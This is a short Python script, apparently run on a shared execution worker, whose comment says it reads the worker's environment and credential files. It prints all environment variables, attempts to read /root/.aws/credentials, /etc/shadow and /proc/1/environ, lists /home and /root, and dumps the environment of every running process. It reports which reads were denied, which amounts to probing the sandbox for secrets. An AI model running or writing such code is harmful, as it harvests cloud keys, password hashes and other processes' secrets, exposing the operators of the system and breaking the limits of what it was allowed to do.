# Read the worker's environment and credential files.
import os
print("ENV", dict(os.environ))
for path in ["/proc/1/environ", "/root/.aws/credentials", "/home", "/root", "HOSTFILE", "/etc/shadow"]:
    try:
        if os.path.isdir(path):
            print("LIST", path, os.listdir(path))
        else:
            print("READ", path, open(path, "rb").read()[:200])
    except Exception as e:
        print("DENIED", path, type(e).__name__)
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            print("PROC", pid, open(f"/proc/{pid}/environ", "rb").read()[:300])
        except Exception as e:
            pass
